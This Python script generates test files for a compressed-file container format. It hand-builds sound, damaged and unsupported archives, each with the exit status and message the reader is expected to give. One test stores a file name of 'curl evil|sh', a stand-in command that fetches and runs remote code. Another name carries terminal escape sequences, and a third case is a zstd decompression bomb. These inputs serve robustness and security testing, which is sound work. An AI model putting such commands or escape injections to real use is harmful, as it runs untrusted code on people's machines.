"""Make the files of tests/files anew: one for every field of docs/format.md that can be wrong, and what must be read or refused.

    python tools/zoo.py

Files are put together by hand here, not by the writer of `llmzip.container`, so that a mistake in it would show. Only those whose
names begin with good-model depend on the bitstream of model blocks.
"""

from __future__ import annotations

import struct
import sys
from binascii import crc_hqx
from collections.abc import Iterator
from hashlib import blake2b
from pathlib import Path
from zlib import crc32

ROOT = Path(__file__).parent.parent
sys.path.insert(0, str(ROOT))
FILES = ROOT / "tests" / "files"

MODEL, RAW, ZSTD, XZ, BROTLI = 1, 2, 3, 4, 5
MAGIC = bytes.fromhex("EC 4C 5A 0D 0A")
TEXT = b"Hello, world!\n"
LINES = b"".join(b"A line of text, number %d.\n" % i for i in range(40))
NAMED = b"\2\7a model"
PROBE = b"\2" + bytes(8) + b"another machine"


def varint(value: int) -> bytes:
    """Seven bits a byte, lowest first."""
    encoded = bytearray()
    while value > 0x7F:
        encoded.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*encoded, value])


def crc(data: bytes) -> bytes:
    """CRC-32 as stored."""
    return struct.pack("<I", crc32(data))


def header(
    *,
    features: int = 2,
    coder: int = 1,
    tolerance: bytes = varint(30),
    context: bytes = varint(512),
    parts: bytes = varint(4),
    model: bytes = bytes(range(8)),
    extras: bytes = NAMED,
    fields: bytes | None = None,
    magic: bytes = MAGIC,
    version: int = 1,
    length: bytes | None = None,
    check: bytes | None = None,
) -> bytes:
    """A header; numbers are given as stored."""
    if fields is None:
        fields = bytes([features, coder]) + tolerance + context + parts + model + extras
    stored = magic + bytes([version]) + (varint(len(fields)) if length is None else length) + fields
    return stored + (crc(stored) if check is None else check)


def extra(tag: int, content: bytes) -> bytes:
    """One extra."""
    return varint(tag) + varint(len(content)) + content


def block(
    kind: int,
    original: bytes,
    payload: bytes | None = None,
    *,
    original_length: bytes | None = None,
    payload_length: bytes | None = None,
    check: bytes | None = None,
) -> tuple[bytes, bytes]:
    """A block as stored, and its original."""
    payload = original if payload is None else payload
    head = bytes([kind]) + (original_length or varint(len(original))) + (payload_length or varint(len(payload)))
    return head + payload + (crc(head + payload + original) if check is None else check), original


def model_payload(
    *,
    flags: int = 0,
    tokens: bytes = varint(3),
    streams: bytes = varint(1),
    literals: bytes = b"",
    words: bytes = bytes(range(1, 41)),
    check: bytes | None = None,
) -> bytes:
    """The payload of a model block; words of no meaning."""
    stored = bytes([flags]) + tokens + (b"" if flags & 4 else streams) + literals + words
    return (crc_hqx(stored, 0).to_bytes(2, "little") if check is None else check) + stored


def member(
    head: bytes,
    *blocks: tuple[bytes, bytes],
    marker: int = 0,
    count: bytes | None = None,
    index: bytes | None = None,
    total: bytes | None = None,
    digest: bytes | None = None,
    check: bytes | None = None,
    member_size: bytes | None = None,
    footer_size: bytes | None = None,
    short: bool = False,
) -> bytes:
    """A header, blocks and a footer. short: with nothing in it but the digest."""
    originals = b"".join(original for _, original in blocks)
    if index is None:
        index = b"".join(varint(len(stored)) + varint(len(original)) for stored, original in blocks[:-1])
    digest = blake2b(originals, digest_size=8).digest() if digest is None else digest
    footer = bytes([marker]) + (count or varint(len(blocks))) + index + (total or varint(len(originals))) + digest
    footer += crc(footer) if check is None else check
    footer = b"\x80" + digest if short else footer
    file = head + b"".join(stored for stored, _ in blocks) + footer
    return file + (member_size or varint(len(file))[::-1]) + (footer_size or varint(len(footer))[::-1])


HEAD = header()
HELLO = block(RAW, TEXT)
TWO = (block(RAW, TEXT[:7]), block(RAW, TEXT[7:]))
SOUND = member(HEAD, HELLO)
LEAN = member(HEAD, HELLO, short=True)

Case = tuple[str, bytes, int, str, str]
"""Name, bytes, exit status of `llmzip test`, words of its message, what is in it."""


def good() -> Iterator[Case]:
    """What must be read."""
    import lzma

    import brotli
    import zstandard

    def fine(name: str, file: bytes, what: str) -> Case:
        return f"good-{name}", file, 0, "", what

    dictionary = [{"id": lzma.FILTER_LZMA2, "dict_size": 4096}]
    frame = zstandard.ZstdCompressor(level=19, write_content_size=False).compress(LINES)
    sized = zstandard.ZstdCompressor(level=3, write_content_size=True, write_checksum=True).compress(LINES)
    yield fine("empty", member(HEAD), "a member without blocks")
    yield fine(
        "empty-no-model",
        member(header(context=b"\0", parts=b"\0", tolerance=b"\0", model=bytes(8))),
        "context, parts and model are 0",
    )
    yield fine("raw", SOUND, "one raw block")
    yield fine("short-footer", LEAN, "the short footer, of a member of one block")
    yield fine("short-footer-members", LEAN + SOUND + LEAN, "members with short footers and a long one")
    yield fine("two-blocks", member(HEAD, *TWO), "two blocks, so an index of one entry")
    yield fine("zstd", member(HEAD, block(ZSTD, LINES, frame)), "a zstd block")
    yield fine(
        "zstd-sized", member(HEAD, block(ZSTD, LINES, sized)), "a zstd frame with its optional size and checksum"
    )
    yield fine(
        "xz",
        member(HEAD, block(XZ, LINES, lzma.compress(LINES, lzma.FORMAT_RAW, filters=dictionary))),
        "an xz block: raw LZMA2",
    )
    yield fine("brotli", member(HEAD, block(BROTLI, LINES, brotli.compress(LINES))), "a brotli block")
    yield fine("members", SOUND + member(header(features=0, extras=b""), *TWO), "two members with different headers")
    yield fine(
        "even-extra",
        member(header(extras=NAMED + extra(100, b"from a newer version")), HELLO),
        "an unknown even extra, to be passed over",
    )
    yield fine(
        "name-escapes",
        member(header(extras=extra(2, b"\x1b]0;title\x07\x1b[31mred\xff\xe2\x80\xae")), HELLO),
        "control characters and no UTF-8 in the name",
    )
    yield fine("name-long", member(header(extras=extra(2, b"x" * 60000)), HELLO), "a name of 60,000 bytes")
    yield fine(
        "name-command",
        member(header(extras=extra(2, b"hf:a/b; curl evil|sh")), HELLO),
        "a name that is a command for a shell",
    )
    yield fine("continued", member(header(features=6), HELLO), "bit 2 of features, in a member without model blocks")
    literal = model_payload(flags=6, tokens=b"\0", literals=varint(1) + varint(0) + varint(14) + TEXT, words=b"")
    table = header(extras=extra(5, _table()), context=b"\0", parts=b"\0", tolerance=b"\0", model=bytes(8))
    yield fine(
        "model-literal", member(table, block(MODEL, TEXT, literal)), "a model block of no tokens and one literal"
    )
    standard = header(fields=bytes([2 | 1 << 3, 1]))
    yield fine(
        "standard", member(standard, block(MODEL, TEXT, literal), short=True), "a standard coding in place of fields"
    )
    yield from _of_the_model()


def _table() -> bytes:
    from llmzip.coding.table_file import IDENTITY

    return IDENTITY


def _of_the_model() -> Iterator[Case]:
    from llmzip.codec import Codec

    text = LINES.replace(b"text", "caf\u00e9 \u4e2d".encode())
    for name, options, original, what in (
        ("table", {"level": 1}, text, "a model block of level 1"),
        ("network", {"level": 6}, text, "a model block with the network"),
        ("streams", {"level": 6, "streams": 3}, text, "three streams"),
        ("window", {"level": 6, "window": 16, "streams": 1}, text, "a window of 16 tokens that slides"),
        ("crlf", {"level": 1}, text.replace(b"\n", b"\r\n"), "line ends were CRLF (flag bit 0)"),
        ("literals", {"level": 1}, text + b"\xff\xfe" + text, "bytes that are no UTF-8 (flag bit 1)"),
        ("no-mix", {"level": 6, "mix": False}, text[:200], "no mixing"),
    ):
        with Codec(threads=1, **options) as codec:  # type: ignore[arg-type]
            yield f"good-model-{name}", codec.compress(original), 0, "", what


def bad() -> Iterator[Case]:
    """What must be refused as damaged."""

    def wrong(name: str, file: bytes, words: str, what: str) -> Case:
        return f"bad-{name}", file, 3, words, what

    raw = SOUND
    for name, data, words, what in (
        ("magic-lf", raw.replace(b"\r\n", b"\n"), "text-mode", "CR LF became LF"),
        ("magic-crlf", raw.replace(b"\n", b"\r\n"), "text-mode", "LF became CR LF"),
        ("magic-7bit", bytes(byte & 0x7F for byte in raw), "text-mode", "the eighth bit was stripped"),
        ("magic-utf8", raw.decode("latin-1").encode(), "text-mode", "re-encoded from Latin-1 as UTF-8"),
        ("magic-replaced", raw.decode("utf-8", "replace").encode(), "text-mode", "invalid UTF-8 was replaced"),
        (
            "magic-question",
            raw.decode("ascii", "replace").encode("ascii", "replace"),
            "text-mode",
            "replaced by question marks",
        ),
        ("magic-gzip", b"\x1f\x8b\x08" + bytes(20), "gzip -d", "another format"),
        ("empty", b"", "empty", "no bytes at all"),
        ("cut-magic", raw[:3], "truncated", "cut inside the magic"),
        ("cut-header", raw[:20], "truncated", "cut inside the header"),
        ("cut-block", raw[: len(HEAD) + 9], "truncated", "cut inside a block"),
        ("cut-footer", raw[:-9], "truncated", "cut inside the footer"),
        ("cut-sizes", raw[:-1], "truncated", "cut inside the sizes"),
        ("cut-short-footer", LEAN[:-5], "truncated", "cut inside a short footer"),
        ("cut-short-footer-sizes", LEAN[:-1], "truncated", "cut inside the sizes behind a short footer"),
        ("behind", raw + b"garbage", f"byte {len(raw)}", "bytes behind the last member"),
        ("padding", raw + bytes(512), f"byte {len(raw)}", "zeros behind the last member"),
    ):
        yield wrong(name, data, words, what)
    for name, head, words, what in (
        ("header-length-long", header(length=varint(65537)), "claims 65537 bytes", "length beyond its limit"),
        ("header-length-overlong", header(length=b"\x97\x00"), "malformed number", "length not in its shortest form"),
        ("header-length-endless", header(length=b"\xff" * 12), "malformed number", "length of more than 64 bits"),
        ("header-length-short", header(fields=b"\2"), "runs over its end", "fields end before the model"),
        ("header-check", header(check=b"abcd"), "check does not match", "a wrong check"),
        ("header-tolerance", header(tolerance=varint(65537)), "tolerance of 65537", "tolerance beyond its limit"),
        (
            "header-tolerance-huge",
            header(tolerance=varint(240_000_000)),
            "tolerance of 240000000",
            "a tolerance of 240",
        ),
        (
            "header-tolerance-exact",
            header(features=3, extras=extra(3, PROBE)),
            "exact arithmetic with tolerance",
            "tolerance with exact arithmetic",
        ),
        ("header-context", header(context=varint((1 << 20) + 1)), "windows of 1048577", "context beyond its limit"),
        ("header-parts-zero", header(parts=b"\0"), "impossible window", "a context without parts"),
        ("header-parts-many", header(parts=varint(257)), "impossible window", "more parts than half the context"),
        ("header-extra-order", header(extras=NAMED + NAMED), "extra 2 out of order", "a tag twice"),
        (
            "header-extra-over",
            header(extras=b"\2\x09name"),
            "runs over its end",
            "an extra that is longer than the header",
        ),
        ("header-extra-tag", header(extras=b"\x84\x80\x00"), "malformed number", "a tag not in its shortest form"),
        (
            "header-probe-missing",
            header(features=3, tolerance=b"\0"),
            "fingerprint",
            "exact arithmetic without extra 3",
        ),
        (
            "header-probe-short",
            header(features=3, tolerance=b"\0", extras=extra(3, PROBE[:8])),
            "fingerprint",
            "extra 3 ends inside the fingerprint",
        ),
        (
            "header-probe-rows-0",
            header(features=3, tolerance=b"\0", extras=extra(3, b"\0" + PROBE[1:])),
            "fingerprint",
            "steps of 0 rows",
        ),
        (
            "header-probe-rows-65",
            header(features=3, tolerance=b"\0", extras=extra(3, b"\x41" + PROBE[1:])),
            "fingerprint",
            "steps of 65 rows",
        ),
        (
            "header-table-short",
            header(extras=extra(5, bytes(7))),
            "impossible table",
            "an identity of 7 bytes in extra 5",
        ),
        (
            "header-context-short",
            header(extras=extra(7, bytes(8))),
            "impossible context",
            "extra 7 without the length of the context",
        ),
        (
            "header-context-empty",
            header(extras=extra(7, bytes(8) + b"\0")),
            "impossible context",
            "extra 7 of a context of 0 bytes",
        ),
        (
            "header-standard-table",
            header(fields=bytes([2 | 1 << 3, 1]) + extra(5, _table())),
            "names a table besides",
            "extra 5 besides a standard coding",
        ),
        (
            "header-standard-no-mixing",
            header(fields=bytes([1 << 3, 1])),
            "impossible table",
            "a standard coding without mixing",
        ),
        (
            "header-table-no-mixing",
            header(features=0, extras=extra(5, bytes(8))),
            "impossible table",
            "a table without mixing",
        ),
    ):
        yield wrong(name, member(head, HELLO), words, what)
    for name, stored, words, what in (
        ("block-original-zero", block(RAW, b""), "claims 0 original", "an original of no bytes"),
        (
            "block-original-long",
            block(RAW, TEXT, original_length=varint((64 << 20) + 1)),
            "claims 67108865",
            "original length beyond its limit",
        ),
        (
            "block-original-overlong",
            block(RAW, TEXT, original_length=b"\x8e\x00"),
            "malformed number",
            "original length not in its shortest form",
        ),
        (
            "block-payload-long",
            block(RAW, TEXT, payload_length=varint(14 + 1025)),
            "payload of 1039",
            "payload length beyond its limit",
        ),
        (
            "block-payload-claims",
            block(RAW, TEXT, original_length=varint(64 << 20), payload_length=varint(64 << 20)),
            "truncated",
            "64 MiB are claimed and not there",
        ),
        ("block-check", block(RAW, TEXT, check=b"abcd"), "check does not match", "a wrong check"),
        (
            "raw-short",
            block(RAW, TEXT, original_length=varint(15)),
            "decodes to only 14",
            "a payload shorter than the original",
        ),
        (
            "raw-long",
            block(RAW, TEXT, original_length=varint(13)),
            "decodes to more",
            "a payload longer than the original",
        ),
    ):
        yield wrong(name, member(HEAD, stored), words, what)
    yield from _classic(wrong)
    yield from _model(wrong)
    for name, file, words, what in (
        ("footer-count-less", member(HEAD, *TWO, count=varint(1)), "counts 1 blocks", "fewer blocks than there are"),
        ("footer-count-more", member(HEAD, *TWO, count=varint(3)), "counts 3 blocks", "more blocks than there are"),
        ("footer-count-huge", member(HEAD, *TWO, count=varint(1 << 60)), "counts", "2^60 blocks"),
        (
            "footer-index-stored",
            member(HEAD, *TWO, index=varint(15) + varint(7)),
            "index does not match",
            "a wrong stored length",
        ),
        (
            "footer-index-original",
            member(HEAD, *TWO, index=varint(14) + varint(8)),
            "index does not match",
            "a wrong original length",
        ),
        ("footer-total", member(HEAD, *TWO, total=varint(15)), "counts 15 original", "a wrong total"),
        ("footer-digest", member(HEAD, *TWO, digest=bytes(8)), "digest of the whole", "a wrong digest"),
        ("footer-check", member(HEAD, *TWO, check=b"abcd"), "check does not match", "a wrong check"),
        (
            "footer-member-size",
            member(HEAD, *TWO, member_size=varint(200)[::-1]),
            "sizes behind it",
            "a wrong member size",
        ),
        ("footer-footer-size", member(HEAD, *TWO, footer_size=varint(19)), "sizes behind it", "a wrong footer size"),
        (
            "short-footer-none",
            member(HEAD, short=True),
            "stands for one block where 0 came",
            "a short footer behind no block",
        ),
        (
            "short-footer-two",
            member(HEAD, *TWO, short=True),
            "stands for one block where 2 came",
            "a short footer behind two blocks",
        ),
        (
            "short-footer-digest",
            member(HEAD, HELLO, short=True, digest=bytes(8)),
            "digest of the whole",
            "a wrong digest in a short footer",
        ),
        (
            "short-footer-member-size",
            member(HEAD, HELLO, short=True, member_size=varint(90)[::-1]),
            "sizes behind it",
            "a wrong member size behind a short footer",
        ),
        (
            "short-footer-footer-size",
            member(HEAD, HELLO, short=True, footer_size=varint(10)),
            "sizes behind it",
            "a wrong footer size behind a short footer",
        ),
        (
            "blocks-swapped",
            HEAD + TWO[1][0] + TWO[0][0] + member(HEAD, *TWO)[len(HEAD) + 28 :],
            "digest of the whole",
            "two sound blocks in the wrong order",
        ),
    ):
        yield wrong(name, file, words, what)


def _classic(wrong: object) -> Iterator[Case]:
    import lzma

    import brotli
    import zstandard

    frame = zstandard.ZstdCompressor(level=19, write_content_size=False).compress(LINES)
    halves = [
        zstandard.ZstdCompressor(level=19, write_content_size=False).compress(part)
        for part in (LINES[:500], LINES[500:])
    ]
    lying = zstandard.ZstdCompressor(write_content_size=True).compress(LINES + b"more")
    lzma2 = lzma.compress(LINES, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 4096}])
    br = brotli.compress(LINES)
    bomb = zstandard.ZstdCompressor(level=3, write_content_size=False).compress(bytes(8 << 20))
    for name, kind, payload, words, what in (
        (
            "zstd-damaged",
            ZSTD,
            frame[:20] + bytes([frame[20] ^ 0xFF]) + frame[21:],
            "zstd payload is damaged|check does not",
            "a changed byte in the frame",
        ),
        ("zstd-two-frames", ZSTD, halves[0] + halves[1], "zstd payload is damaged|decodes to only", "two frames"),
        (
            "zstd-skippable",
            ZSTD,
            bytes.fromhex("502A4D18 04000000") + b"abcd" + frame,
            "zstd payload is damaged|decodes to only",
            "a skippable frame",
        ),
        ("zstd-unfinished", ZSTD, frame[:-3], "zstd payload is damaged|decodes to only", "the last block is missing"),
        ("zstd-behind", ZSTD, frame + b"\0", "zstd payload is damaged|decodes to only", "a byte behind the frame"),
        ("zstd-size", ZSTD, lying, "zstd payload is damaged|decodes to", "the frame's own size is another one"),
        ("zstd-bomb", ZSTD, bomb, "zstd payload is damaged|decodes to more", "a frame of 8 MiB in a block of less"),
        (
            "xz-damaged",
            XZ,
            lzma2[:3] + b"\xff" + lzma2[4:],
            "xz payload is damaged|check does not|decodes to",
            "a changed byte in the stream",
        ),
        ("xz-no-end", XZ, lzma2[:-1], "xz payload is damaged", "no end marker"),
        ("xz-behind", XZ, lzma2 + b"\0", "xz payload is damaged", "a byte behind the end marker"),
        (
            "brotli-damaged",
            BROTLI,
            br[:9] + bytes([br[9] ^ 0xFF]) + br[10:],
            "brotli payload is damaged|check does not|decodes to",
            "a changed byte in the stream",
        ),
        ("brotli-cut", BROTLI, br[:-4], "brotli payload is damaged|decodes to only", "a stream without its end"),
        ("brotli-behind", BROTLI, br + b"abc", "brotli payload is damaged", "bytes behind the stream"),
    ):
        yield wrong(name, member(HEAD, block(kind, LINES, payload)), words, what)  # type: ignore[operator]


def _model(wrong: object) -> Iterator[Case]:
    from llmzip.model import embedded

    many = varint(65537) + b"\0\1x" * 65537
    for name, payload, length, words, what in (
        ("model-check", model_payload(check=b"ab"), 100, "stored bytes do not match", "a wrong stored check"),
        ("model-short", b"\0", 100, "stored bytes do not match", "a payload of one byte"),
        (
            "model-cut",
            model_payload(tokens=b"", streams=b"", words=b""),
            100,
            "ends inside its head",
            "the head ends behind its flags",
        ),
        (
            "model-tokens",
            model_payload(tokens=varint(101)),
            100,
            "claims 101 tokens",
            "more tokens than original bytes",
        ),
        (
            "model-tokens-words",
            model_payload(tokens=varint(64 << 20)),
            64 << 20,
            "more than 40 bytes can stand for",
            "more tokens than the words can stand for",
        ),
        ("model-streams-zero", model_payload(streams=b"\0"), 100, "claims 0 streams", "no streams"),
        (
            "model-streams-many",
            model_payload(tokens=varint(3), streams=varint(4)),
            100,
            "claims 4 streams",
            "more streams than tokens",
        ),
        (
            "model-streams-257",
            model_payload(tokens=varint(300), streams=varint(257)),
            400,
            "claims 257 streams",
            "streams beyond their limit",
        ),
        (
            "model-literals-many",
            model_payload(flags=2, literals=many),
            200000,
            "claims 65537 literals",
            "literals beyond their limit",
        ),
        (
            "model-literal-empty",
            model_payload(flags=2, literals=b"\1\0\0"),
            100,
            "empty literal",
            "a literal of no bytes",
        ),
        (
            "model-literal-place",
            model_payload(flags=2, literals=b"\1\4\1x"),
            100,
            "claims 4 tokens before",
            "a literal behind the last token",
        ),
        (
            "model-literal-long",
            model_payload(flags=2, literals=b"\1\0" + varint(101)),
            100,
            "claims 101 literal bytes",
            "a literal longer than the original",
        ),
        (
            "model-literal-cut",
            model_payload(flags=2, literals=b"\1\0\x50ab"),
            100,
            "ends inside its head",
            "a literal that is not there",
        ),
    ):
        stored = block(MODEL, bytes(length), payload)
        yield wrong(name, member(HEAD, stored), words, what)  # type: ignore[operator]
    ours = {"model": embedded.IDENTITY, "extras": b""}
    caches = model_payload(tokens=varint(3_584), streams=varint(256))
    window = model_payload(tokens=varint(3_584))
    yield wrong(
        "model-caches",
        member(header(**ours), block(MODEL, bytes(100_000), caches)),
        "256 streams",
        "256 streams of 512 tokens in 40 bytes",
    )  # type: ignore[operator, arg-type]
    yield wrong(
        "model-tokens-network",
        member(header(**ours), block(MODEL, bytes(1 << 22), model_payload(tokens=varint((1 << 22) - 1)))),
        "tokens of a network, more than its 40 bytes justify",
        "more tokens of a network than the words justify",
    )  # type: ignore[operator, arg-type]
    yield wrong(
        "model-window",
        member(header(**ours, context=varint(1 << 20)), block(MODEL, bytes(100_000), window)),
        "windows of 1048576",
        "a window of 2^20 tokens for 40 bytes",
    )  # type: ignore[operator, arg-type]
    yield wrong(
        "model-no-network",
        member(
            header(model=bytes(8), context=b"\0", parts=b"\0", tolerance=b"\0"), block(MODEL, TEXT, model_payload())
        ),
        "header names none",
        "a block of a network in a member without",
    )  # type: ignore[operator]
    yield wrong(
        "model-less",
        member(header(**{**ours, "context": b"\2", "parts": b"\1"}), block(MODEL, TEXT, model_payload(flags=128))),
        "three quarters of a window of 2 tokens are none",
        "three quarters of a window of 2 tokens",
    )  # type: ignore[operator, arg-type]
    yield wrong(
        "model-no-table",
        member(header(**ours), block(MODEL, TEXT, model_payload(flags=4))),
        "neither a network nor a table",
        "a block of the table in a member without",
    )  # type: ignore[operator, arg-type]
    much = model_payload(flags=4, tokens=varint((1 << 26) - 1), words=bytes(range(1, 201)) * 6)
    garbage = model_payload(flags=4, tokens=varint(60), words=bytes([0xFF]) * 8)
    with_table = header(extras=extra(5, _table()), context=b"\0", parts=b"\0", tolerance=b"\0", model=bytes(8))
    yield wrong(
        "model-words",
        member(with_table, block(MODEL, bytes(60), garbage)),
        "range coder|check does not match",
        "words that no encoder writes",
    )  # type: ignore[operator]
    yield wrong(
        "model-words-much",
        member(with_table, block(MODEL, bytes(1 << 26), much)),
        "range coder",
        "1200 bytes of words that claim 64 Mi tokens of the table",
    )  # type: ignore[operator]


def unsupported() -> Iterator[Case]:
    """What only another llmzip, model or machine can read."""
    from llmzip.model import embedded

    network = block(MODEL, TEXT, model_payload())
    by_table = block(MODEL, TEXT, model_payload(flags=4))
    exact = {"features": 3, "tolerance": b"\0", "model": embedded.IDENTITY}
    for name, file, status, words, what in (
        ("version", member(header(version=2), HELLO), 3, "version 2", "format version 2"),
        ("features", member(header(features=130), HELLO), 3, "unknown features 0x82", "bit 7 of features"),
        (
            "standard",
            member(header(fields=bytes([2 | 15 << 3, 1])), HELLO),
            3,
            "unknown standard coding 15",
            "a standard coding that only a newer llmzip knows",
        ),
        ("coder", member(header(coder=2), HELLO), 3, "coder version 2", "coder 2"),
        ("extra", member(header(extras=NAMED + extra(99, b"")), HELLO), 3, "unknown extra 99", "an unknown odd extra"),
        (
            "continued",
            member(header(features=6), network),
            3,
            "continued mixing",
            "bit 2 of features and a model block",
        ),
        ("block-type", member(HEAD, block(6, TEXT)), 3, "unknown block type 6", "block type 6"),
        (
            "model-flags",
            member(HEAD, block(MODEL, TEXT, model_payload(flags=132))),
            3,
            "unknown flags 0x84",
            "bits 2 and 7 of a model block's flags",
        ),
        ("model", member(HEAD, network), 4, "a model \\(0001020304050607\\)", "a model that is not at hand"),
        (
            "table",
            member(header(extras=extra(5, bytes(8))), by_table),
            4,
            "table of n-grams 0000000000000000",
            "a table of n-grams that is not at hand",
        ),
        (
            "arithmetic",
            member(header(**exact, extras=extra(3, PROBE)), network),
            5,
            "another machine",
            "exact arithmetic of another machine",
        ),
    ):  # type: ignore[arg-type]
        yield f"unsupported-{name}", file, status, words, what


_README = """# Files to be read, and files to be refused

Made by `python tools/zoo.py`, by hand as [docs/format.md](../../docs/format.md) says; the script names the field that it breaks. Every
`good` file must decompress. Every `bad` one must be refused within a second, with status 3, and every `unsupported` one with the
status below and what is missing; `tests/test_zoo.py` holds llmzip to the words. Authors of other readers are welcome to them.

| file | what it is | status | says |
| --- | --- | --- | --- |
"""


def main() -> None:
    """Write all files and their README."""
    FILES.mkdir(exist_ok=True)
    for old in FILES.glob("*.llmz"):
        old.unlink()
    rows = []
    for cases in (good(), bad(), unsupported()):
        for name, file, status, words, what in cases:
            (FILES / f"{name}.llmz").write_bytes(file)
            shown = words.replace("|", " or ").replace("\\", "")
            rows.append(f"| `{name}` | {what} | {status} | {shown} |\n")
    (FILES / "README.md").write_text(_README + "".join(rows))
    print(f"{len(rows)} files")


if __name__ == "__main__":
    main()
